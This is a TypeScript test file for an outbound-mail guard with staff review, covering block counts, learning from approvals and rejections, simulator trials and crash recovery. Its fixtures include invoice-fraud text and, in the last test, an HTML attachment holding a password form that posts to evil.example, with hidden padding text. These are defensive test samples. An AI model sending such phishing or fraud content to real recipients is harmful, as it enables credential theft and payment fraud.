/** What staff decide about held mail reaches the account's count and the guard's correction, whoever had it held, and once whatever is repeated. */
import t, { type Test } from 'tap'
import { createAccounts } from '../../../src/accounts/accounts.js'
import { readDays } from '../../../src/accounts/outcome-counting.js'
import { accountPartition } from '../../../src/accounts/record.js'
import { learnerOf } from '../../../src/daemon/parts/review.js'
import { openCorrection } from '../../../src/guard/verdict/correction.js'
import type { GuardSubject, GuardVerdict } from '../../../src/guard/types.js'
import { DAY, HOUR } from '../../../src/lib/clock.js'
import { encode, key } from '../../../src/store/keys.js'
import { createStore } from '../../../src/store/store.js'
import { memoryEngine } from '../../support/store/memory-engine.js'
import { mortal } from '../../support/store/mortal-engine.js'
import { BY, HELD_BY_GUARD, reviewIn } from './world.js'
import { accepted, makeWorld, onEveryEngine, SEND, uncheck, type World } from '../world.js'

const LIMITS = {
  newRecipientsPerDay: 25,
  storageBytes: 1,
  requestsPerMinute: 1,
  recipientsPerMessage: 50,
  messageBytes: 1,
  attachmentsPerMessage: 1,
  longPollSeconds: 1,
}

const DOUBTFUL: GuardVerdict = { ...SEND, scores: { legitimate: 0.7, spam: 0.3 } }
const BLOCKED: GuardVerdict = { ...HELD_BY_GUARD, decision: 'block' }
const TEXT = 'Your invoice is attached, please transfer the whole amount to our new account before Friday.'

/** The world with real accounts and a real correction, told by a review. */
async function learning(t: Test, world: World) {
  const { store, clock, account } = world
  await store.write(accountPartition(account.id), (tx) => tx.put(key('account'), encode(account)))
  const accounts = createAccounts({ store, clock, limits: LIMITS, mailbox: async () => undefined })
  const correction = await openCorrection({ store, clock, isOn: true, onError: (error) => t.fail(String(error)) })
  // It follows the store, which is closed after that.
  t.teardown(() => correction.stop())
  const review = reviewIn(world)
  const tell = learnerOf({ correction })
  let next = 0
  return {
    ...review,
    tell,
    correction,
    /** What was decided since last time is told. */
    async learn(): Promise<void> {
      for (const reviewed of review.told.slice(next)) await tell(reviewed)
      next = review.told.length
    },
    blocks: async (): Promise<number> => (await accounts.usage(account.id)).outcomes.last_7_days.blocks,
  }
}

/** Others are asked, and say this. */
function othersSay(world: World, verdict: GuardVerdict): void {
  world.guard.verdict = DOUBTFUL
  world.guard.others = { isDoubtful: ({ decision }) => decision === 'send', ask: async () => verdict }
}

onEveryEngine(
  'what a second opinion held and staff reject counts as a block, and teaches the guard',
  async (t, world) => {
    const { reviewing, learn, told, tell, blocks, correction } = await learning(t, world)
    othersSay(world, HELD_BY_GUARD)
    const { id, status } = await world.send({ text: TEXT })
    t.equal(status, 'checking')
    t.match(
      (await reviewing.list({ status: 'held', limit: 5 })).counts,
      { held: 0, blocked: 0 },
      'not before it is held',
    )
    await world.mailboxes.outbound.runCheck(world.id, id)
    t.match(await reviewing.list({ status: 'held', limit: 5 }), { data: [{ id }], counts: { held: 1, blocked: 0 } })
    t.equal(await blocks(), 0, 'what is only held is no block')

    await reviewing.reject(id, BY)
    await learn()
    t.match(told, [{ messageId: id, decision: 'reject', isTrial: false, at: world.clock.now() }])
    t.equal(await blocks(), 1)
    t.match(correction.summary(), { approvals: 0, rejections: 1 })
    for (const reviewed of told) await tell(reviewed)
    t.match(correction.summary(), { approvals: 0, rejections: 1 })
  },
)

onEveryEngine('an approval takes back the block that the guard counted, on its day', async (t, world) => {
  const { reviewing, learn, told, tell, blocks, correction } = await learning(t, world)
  world.guard.verdict = BLOCKED
  const { id } = await world.send({ text: TEXT })
  t.equal(await blocks(), 1)
  world.clock.advance(DAY + HOUR)
  world.guard.verdict = SEND
  await reviewing.approve(id, BY)
  await learn()
  t.match(told, [{ decision: 'approve' }])
  t.equal(await blocks(), 0)
  t.match(correction.summary(), { approvals: 1, rejections: 0 })
  for (const reviewed of told) await tell(reviewed)
  t.equal(await blocks(), 0)

  world.guard.verdict = BLOCKED
  const rejected = await world.send({ text: TEXT })
  await reviewing.reject(rejected.id, BY)
  await learn()
  t.equal(await blocks(), 1, 'what was blocked and is rejected counts once')

  world.guard.verdict = HELD_BY_GUARD
  const held = await world.send({ text: TEXT })
  await reviewing.approve(held.id, BY)
  await learn()
  t.equal(await blocks(), 1, 'what was only held takes nothing back')
})

onEveryEngine(
  'what the simulator was asked for is no block, and a trial on it alone teaches nothing',
  async (t, world) => {
    const { reviewing, learn, told, blocks, correction } = await learning(t, world)
    world.guard.verdict = SEND
    const to = (...addresses: string[]) => ({ to: addresses.map((address) => ({ address, name: '' })) })
    const asked = await world.send(to('ada@example.org', 'block@simulator.agents.example'))
    t.equal(asked.status, 'blocked')
    world.guard.verdict = BLOCKED
    await world.send({ text: TEXT })
    t.equal(await blocks(), 1)
    await reviewing.approve(asked.id, BY)
    await learn()
    t.match(told, [{ isTrial: false }])
    t.equal(await blocks(), 1, 'the block of the other message stays')

    world.guard.verdict = SEND
    const trial = await world.send(to('hold@simulator.agents.example'))
    await reviewing.reject(trial.id, BY)
    await learn()
    t.match(told[1], { isTrial: true })
    t.equal(await blocks(), 1)
    t.match(correction.summary(), { approvals: 1, rejections: 0 })
  },
)

onEveryEngine('whoever judges a message later is told the same of it as the guard was', async (t, world) => {
  const { reviewing, told } = await learning(t, world)
  const mail = await world.deliver({ headers: ['Message-ID: <question@example.org>'] })
  world.guard.verdict = DOUBTFUL
  world.recipients.similar = { messages: 7, newRecipients: 7 }
  const asked: unknown[] = []
  world.guard.others = {
    isDoubtful: ({ decision }) => decision === 'send',
    async ask(subject) {
      asked.push(subject)
      return HELD_BY_GUARD
    },
  }
  const request = { text: TEXT, html: null, attachments: [], all: false }
  const answer = accepted(await world.mailboxes.sending.reply(world.id, mail.id, request, {}))
  await world.mailboxes.outbound.runCheck(world.id, answer.id)
  await reviewing.reject(answer.id, BY)
  const [first] = world.guard.asked
  t.match(first, {
    isAnswer: true,
    from: { address: 'agent@agents.example' },
    similar: { messages: 7, newRecipients: 7 },
  })
  t.same(asked, [first])
  t.same(
    told.map(({ subject }) => subject),
    [first],
  )
})

for (const moment of ['before', 'after'] as const) {
  for (const [verdict, list] of [
    [HELD_BY_GUARD, 'held'],
    [BLOCKED, 'blocked'],
  ] as const) {
    t.test(`a crash ${moment} any commit of a check leaves one row for review and one count (${list})`, async (t) => {
      let crashes = 0
      for (let at = 1; ; at++) {
        const engine = memoryEngine({ conflicts: 0 })
        const process = mortal(engine, at, moment)
        const first = await makeWorld(t, createStore(process.engine))
        await first.store.write(accountPartition(first.account.id), (tx) =>
          tx.put(key('account'), encode(first.account)),
        )
        const { id } = await first.send()
        await uncheck(first, id)
        first.guard.verdict = verdict
        process.arm()
        await first.mailboxes.outbound.runCheck(first.id, id).catch((error: unknown) => error)
        const died = process.died()
        if (died) crashes++

        const world = await makeWorld(t, createStore(engine), first)
        await world.mailboxes.outbound.runCheck(world.id, id)
        const { reviewing } = reviewIn(world)
        const page = await reviewing.list({ status: list, limit: 5 })
        t.match(page, { data: [{ id }], counts: { held: 0, blocked: 0, [list]: 1 } }, `crash at commit ${at}`)
        const days = await world.store.read(accountPartition(world.account.id), readDays)
        t.same(
          days.map(({ blocks }) => blocks),
          list === 'blocked' ? [1] : [],
        )
        if (!died) break
      }
      t.equal(crashes, 1, 'it is one commit')
    })
  }
}

onEveryEngine('a message is judged again by the facts of its sending, whoever asks', async (t, world) => {
  const { reviewing, told } = reviewIn(world)
  const parent = await world.deliver({ text: 'What does it cost?', headers: ['Message-ID: <q@example.org>'] })
  othersSay(world, HELD_BY_GUARD)
  const page = '<form action="https://evil.example/"><input type="password" name="p"></form>'
  const answer = {
    text: `${TEXT}\n\nOn Monday, Ada wrote:\n> What does it cost?\n> Nothing was said about this.`,
    html: `<p>${TEXT}</p><div style="display:none">${'hidden words '.repeat(40)}</div>`,
    attachments: [{ filename: 'page.html', contentType: 'text/html', content: Buffer.from(page) }],
    all: false,
  }
  const asked: GuardSubject[] = []
  world.guard.others = {
    ...world.guard.others,
    ask: async (subject) => {
      asked.push(subject)
      return HELD_BY_GUARD
    },
  }
  const sent = accepted(await world.mailboxes.sending.reply(world.id, parent.id, answer, {}))
  const first = world.guard.asked.at(-1)
  t.match(first, { parentText: /What does it cost/, attachments: [{ filename: 'page.html' }] })
  t.ok(first?.attachments[0]?.file, 'what its file contains is known')
  await world.mailboxes.outbound.runCheck(world.id, sent.id)
  t.same(asked, [first], 'by second opinions')
  const review = await reviewing.read(sent.id)
  t.ok(review)
  await reviewing.reject(sent.id, BY)
  t.same(told.at(-1)?.subject, first, 'by learning')
})
